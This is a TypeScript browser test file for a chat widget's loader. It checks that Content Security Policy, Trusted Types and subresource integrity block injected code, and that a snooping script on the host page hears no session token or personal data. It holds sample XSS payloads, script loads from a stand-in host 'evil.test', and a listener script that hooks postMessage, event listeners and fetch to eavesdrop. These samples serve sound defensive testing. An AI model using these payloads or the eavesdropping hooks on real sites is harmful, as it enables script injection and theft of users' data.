/** What a script can do that got into a page of ours, or stands beside our loader on a brand’s. */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { skip } from '../e2e/kit/stage.ts';
import { encryptTo, fetchKeys } from '../kit/encrypt.ts';
import { type HostileStage, hostileStageOfFile } from './hostile/hostile-stage.ts';

const claims = { name: 'Mara Keller', account_number: 'AU-4417-8802' };
let on: HostileStage;

const start = hostileStageOfFile();
before(async () => {
  if (skip) return;
  on = await start();
  const { aurora } = on.stage;
  // As a brand has it that set nothing: a token with attributes must be encrypted.
  aurora.encryption = undefined;
  const file = aurora.file(on.stage.dataDir);
  const connectors = file.connectors.filter(({ flow }) => flow === 'implicit');
  await on.stage.putBrand({ ...file, connectors });
});

/** A page of the brand with our loader on it, and whatever stands before it. */
async function openShop(
  before = '',
  loader = '',
  src = 'https://chat.test/loader.js',
): Promise<Page> {
  const { aurora } = on.stage;
  const { page, context } = await on.open();
  await context.exposeFunction('mintToken', async (nonce: string) => {
    const [key] = await fetchKeys(on.stage.browser(), aurora);
    return encryptTo(key, aurora.idToken(nonce, { claims }));
  });
  on.pages.set(
    `${aurora.pageOrigin}/`,
    `<!doctype html><meta charset="utf-8"><title>Shop</title><body>${before}<script>
     window.lpGetAuthenticationToken = (callback, challenge, { nonce }) => mintToken(nonce);
     </script><script src="${src}" data-brand="aurora" data-open ${loader}>
     </script>`,
  );
  await page.goto(`${aurora.pageOrigin}/`);
  return page;
}

/** By each way in which text becomes code. What the browser refuses throws, or does nothing. */
const attempts = `(async () => {
  const tries = {
    innerHTML: () => { document.body.innerHTML = '<img src=x onerror=owned=1>'; },
    outerHTML: () => { document.body.firstElementChild.outerHTML = '<b></b>'; },
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
    write: () => document.write('<script>owned=1</' + 'script>'),
    srcdoc: () => { document.createElement('iframe').srcdoc = '<script>parent.owned=1</' + 'script>'; },
    parse: () => new DOMParser().parseFromString('<b></b>', 'text/html'),
    script: () => { document.createElement('script').text = 'owned=1'; },
    src: () => { document.createElement('script').src = 'https://evil.test/x.js'; },
    eval: () => (0, eval)('owned=1'),
    function: () => new Function('owned=1')(),
    policy: () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }),
    importing: () => import('https://evil.test/x.js'),
    handler: () => document.body.setAttribute('onclick', 'owned=1'),
  };
  // What the test itself runs may eval; what runs later is judged as any script.
  await new Promise((resolve) => setTimeout(resolve));
  const went = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); went.push(name); } catch {}
  }
  return { went, owned: 'owned' in window };
})()`;

test('[A60] in no page of ours does text become code, whoever asks for it', { skip }, async () => {
  const shop = await openShop();
  await shop.frameLocator('iframe[title="Chat"]').getByText('Signed in as').waitFor();
  const frame = shop.frames().find((one) => one.url().includes('/window/'));
  assert(frame);
  const { page: agent, seen } = await on.open();
  await agent.goto('https://chat.test/agent/');
  await agent.getByLabel('Login').waitFor();
  for (const place of [frame, agent]) {
    assert.deepEqual(await place.evaluate(attempts), { went: [], owned: false }, place.url());
  }
  const elsewhere = seen.requests.filter((request) =>
    request.url().startsWith('https://evil.test'),
  );
  const ends = elsewhere.map((request) => request.failure()?.errorText);
  assert.deepEqual([...new Set(ends)], ['csp'], 'what was asked for elsewhere did not go out');
  // A control: on a page without our policy all of it goes.
  const { page: bare } = await on.open();
  on.pages.set('https://www.borealis.test/', '<!doctype html><title>x</title><p>x');
  await bare.goto('https://www.borealis.test/');
  const { went } = (await bare.evaluate(attempts)) as { went: string[] };
  assert(went.length >= 11, went.join());
});

test('[A60] a page that names the hash of the loader runs that one and no other', {
  skip,
}, async () => {
  const { text } = await on.stage.browser().get('/loader.js');
  const hash = createHash('sha384').update(text).digest('base64');
  const named = (of: string): string => `integrity="sha384-${of}" crossorigin="anonymous"`;
  const page = await openShop('', named(hash));
  await page.frameLocator('iframe[title="Chat"]').getByText('Signed in as').waitFor();
  const { src, integrity } = (await on.stage.browser().get('/loader.json')).json;
  assert.equal(integrity, `sha384-${hash}`);
  const pinned = await openShop('', named(hash), String(src));
  await pinned.frameLocator('iframe[title="Chat"]').getByText('Signed in as').waitFor();
  const changed = await openShop('', named(hash.replace(/^./, 'x')));
  await changed.waitForLoadState('load');
  assert.equal(await changed.locator('iframe').count(), 0);
});

/** Another script of the page, which was there first and listens to everything it can. */
const listener = `<script>
  window.heard = [];
  const hear = (what) => { try { heard.push(JSON.stringify(what)); } catch { heard.push(String(what)); } };
  for (const type of [MessagePort, Window, Worker, BroadcastChannel]) {
    const { postMessage } = type.prototype;
    if (postMessage) type.prototype.postMessage = function (...all) { hear(all); return postMessage.apply(this, all); };
  }
  const own = window.postMessage;
  window.postMessage = function (...all) { hear(all); return own.apply(this, all); };
  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, act, more) {
    return listen.call(this, type, typeof act === 'function' ? function (event) { hear(event.data ?? type); return act.call(this, event); } : act, more);
  };
  const described = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', { ...described, set(act) {
    described.set.call(this, (event) => { hear(event.data); act.call(this, event); });
  } });
  const { fetch } = window;
  window.fetch = (...all) => { hear(all); return fetch(...all); };
  addEventListener('message', ({ data }) => hear(data));
</script>`;

test('[A61] another script of the page hears an envelope, and neither who is there nor a session', {
  skip,
}, async () => {
  const page = await openShop(listener);
  const chat = page.frameLocator('iframe[title="Chat"]');
  await chat.getByText('Signed in as Mara Keller').waitFor();
  await chat.getByRole('textbox', { name: 'Message' }).fill('My secret is Zaunkoenig');
  await chat.getByRole('textbox', { name: 'Message' }).press('Enter');
  await chat.getByText('Sent').first().waitFor();
  const heard = (await page.evaluate<string[]>('heard')).join('\n');
  assert.match(heard, /eyJ[\w-]+\.[\w-]+\.[\w-]+\.[\w-]+\.[\w-]+/, 'the envelope passes by');
  const tokens = heard.match(/eyJ[\w.-]+/g) ?? [];
  assert.deepEqual(
    tokens.filter((token) => token.split('.').length === 3),
    [],
    'no bare token',
  );
  assert.doesNotMatch(heard, /Mara|Keller|AU-4417|Zaunkoenig/);
  const around = await page.evaluate<object>(`({
    dom: document.documentElement.outerHTML + [...document.querySelectorAll('*')].map((one) => one.shadowRoot?.innerHTML ?? '').join(),
    inside: [...document.querySelectorAll('*')].map((one) => one.shadowRoot?.querySelector('iframe')?.contentDocument ?? null).filter(Boolean).length,
    stored: JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }]),
    globals: Object.keys(window).filter((name) => /^(lp|countersign|chat)/i.test(name)),
  })`);
  assert.doesNotMatch(JSON.stringify(around), /Mara|Keller|AU-4417|Zaunkoenig|eyJ/);
  assert.equal((around as { inside: number }).inside, 0);
});
